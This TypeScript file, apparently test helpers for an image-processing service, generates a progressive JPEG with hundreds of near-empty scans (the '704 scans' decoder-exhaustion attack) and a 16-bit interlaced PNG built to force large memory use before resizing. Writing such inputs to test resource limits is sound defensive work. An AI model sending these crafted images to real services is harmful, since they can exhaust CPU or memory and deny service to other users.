import sharp from 'sharp';

/** Writes bits most significant first, padding the last byte with ones (as JPEG scans end). */
class BitWriter {
  private readonly bytes: number[] = [];
  private current = 0;
  private used = 0;

  write(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i -= 1) {
      this.current = (this.current << 1) | ((value >> i) & 1);
      this.used += 1;
      if (this.used === 8) this.flushByte();
    }
  }

  private flushByte(): void {
    this.bytes.push(this.current);
    // A 0xFF in entropy-coded data is followed by a stuffed zero.
    if (this.current === 0xff) this.bytes.push(0);
    this.current = 0;
    this.used = 0;
  }

  end(): Buffer {
    if (this.used > 0) this.write((1 << (8 - this.used)) - 1, 8 - this.used);
    return Buffer.from(this.bytes);
  }
}

const segment = (marker: number, body: number[] | Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, Buffer.from(body)]);
};

/** EOB-run symbols 0x00, 0x10 … 0xE0 (runs of 1 to 32,767 blocks), each coded on 4 bits: 0000 … 1110. */
const EOB_RUN_CODE = (r: number) => r;

/** Every block of a scan ends at once: a sequence of end-of-band runs covering `blocks` blocks. */
function allEndOfBand(blocks: number): Buffer {
  const bits = new BitWriter();
  let left = blocks;
  while (left > 0) {
    const run = Math.min(left, 32_767);
    const r = Math.floor(Math.log2(run));
    bits.write(EOB_RUN_CODE(r), 4);
    if (r > 0) bits.write(run - (1 << r), r);
    left -= run;
  }
  return bits.end();
}

/**
 * A valid progressive greyscale JPEG of one flat grey with a great many scans (the "704 scans" attack): after the DC
 * scan, each AC coefficient k is sent in its own first scan then refined bit by bit (successive approximation),
 * 14 scans per coefficient, up to 883 in all. Every scan is a few bytes of end-of-band runs, so the file stays small
 * while a decoder walks every block of the image once per scan.
 */
export function manyScansJpeg(width: number, height: number, scans: number): Buffer {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const soi = Buffer.from([0xff, 0xd8]);
  const dqt = segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]);
  const sof2 = segment(0xc2, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]);
  // DC table 0: one symbol (category 0, a zero difference) on one bit. AC table 0: the 15 EOB-run symbols on 4 bits.
  const dcBits = [1, ...new Array<number>(15).fill(0)];
  const acBits = [0, 0, 0, 15, ...new Array<number>(12).fill(0)];
  const dht = segment(0xc4, [0x00, ...dcBits, 0x00, 0x10, ...acBits, ...Array.from({ length: 15 }, (_, r) => r << 4)]);
  const sos = (ss: number, se: number, ah: number, al: number) => segment(0xda, [1, 1, 0x00, ss, se, (ah << 4) | al]);

  const parts: Buffer[] = [soi, dqt, sof2, dht];
  // DC first scan: one zero difference per block, one bit each.
  const dc = new BitWriter();
  for (let i = 0; i < blocks; i += 1) dc.write(0, 1);
  parts.push(sos(0, 0, 0, 0), dc.end());
  const data = allEndOfBand(blocks);
  let sent = 1;
  for (let k = 1; k <= 63 && sent < scans; k += 1) {
    parts.push(sos(k, k, 0, 13), data);
    sent += 1;
    for (let ah = 13; ah >= 1 && sent < scans; ah -= 1) {
      parts.push(sos(k, k, ah, ah - 1), data);
      sent += 1;
    }
  }
  parts.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
}

/** A 16-bit RGB PNG, Adam7-interlaced: the whole image must sit in memory, 6 bytes per pixel, before any resize. */
export const interlaced16BitPng = (width: number, height: number): Promise<Buffer> =>
  sharp({ create: { width, height, channels: 3, background: '#7f9fbf' } })
    .toColourspace('rgb16')
    .png({ progressive: true, compressionLevel: 9 })
    .toBuffer();
